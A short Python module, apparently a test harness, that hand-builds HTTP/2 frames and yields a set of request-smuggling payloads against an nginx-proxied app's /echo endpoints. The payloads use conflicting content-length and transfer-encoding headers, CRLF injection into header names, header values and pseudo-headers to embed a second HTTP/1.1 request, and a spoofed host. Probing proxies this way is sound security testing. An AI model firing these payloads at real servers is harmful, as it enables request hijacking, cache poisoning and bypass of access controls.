"""Requests over HTTP/2 that are others in HTTP/1.1, in which nginx asks the app."""

import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, SETTINGS = 0, 1, 4
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, payload, stream=1):
    """Return a frame (RFC 9113, section 4.1)."""
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def text(value):
    """Return a string of HPACK, as it is (RFC 7541, section 5.2)."""
    data = value.encode("latin-1")
    if len(data) < 127:
        return bytes([len(data)]) + data
    rest, more = len(data) - 127, b""
    while rest >= 128:
        more, rest = more + bytes([rest % 128 + 128]), rest // 128
    return bytes([127]) + more + bytes([rest]) + data


def request(host, path, headers=(), body=b"", **pseudo):
    """Return the frames of a request."""
    fields = [(":method", "POST"), (":scheme", "https"), (":authority", host), (":path", path)]
    fields = [(name, pseudo.get(name[1:], value)) for name, value in fields]
    # Literal ones that are never indexed.
    block = b"".join(b"\x10" + text(name) + text(value) for name, value in [*fields, *headers])
    return frame(HEADERS, END_HEADERS, block) + frame(DATA, END_STREAM, body)


def attacks(host):
    """Yield what would be another request, or two, in HTTP/1.1."""
    inside = f"GET /echo/smuggled HTTP/1.1\r\nHost: {host}\r\n\r\n"
    lines = f"\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inside}"
    yield request(host, "/echo/h2")
    yield request(host, "/echo/h2", [("content-length", "0")], inside.encode())
    yield request(host, "/echo/h2", [("content-length", "999")], inside.encode())
    yield request(host, "/echo/h2", [("content-length", "0"), ("content-length", str(len(inside)))], inside.encode())
    yield request(host, "/echo/h2", [("transfer-encoding", "chunked")], b"0\r\n\r\n" + inside.encode())
    yield request(host, "/echo/h2", [("x", f"y{lines}")])
    yield request(host, "/echo/h2", [(f"x: y{lines}", "z")])
    yield request(host, f"/echo/h2 HTTP/1.1{lines}")
    yield request(host, "/echo/h2", method=f"GET /echo/other HTTP/1.1\r\nHost: {host}\r\n\r\nGET")
    yield request(host, "/echo/h2", authority=f"{host}{lines}")
    yield request(host, "/echo/h2", scheme=f"https://{host}/echo/other HTTP/1.1{lines}")
    yield request(host, "/echo/h2", [("connection", "transfer-encoding"), ("upgrade", "h2c")])
    yield request(host, "/echo/h2", [("host", "evil.example.com")])
    yield request(host, "/echo/h2", [("x\0", "y"), ("X-Forwarded-For", "planted")])
    yield request(host, "/echo/h2", [(":path", "/echo/other")])
    yield request(host, "echo/h2")


def send(connection, frames, silence):
    """Send the frames of a request and wait until nothing more comes back."""
    with connection:
        connection.sendall(PREFACE + frame(SETTINGS, 0, b"", 0) + frames)
        connection.settimeout(silence)
        try:
            while connection.recv(65536):
                pass
        except OSError:
            return
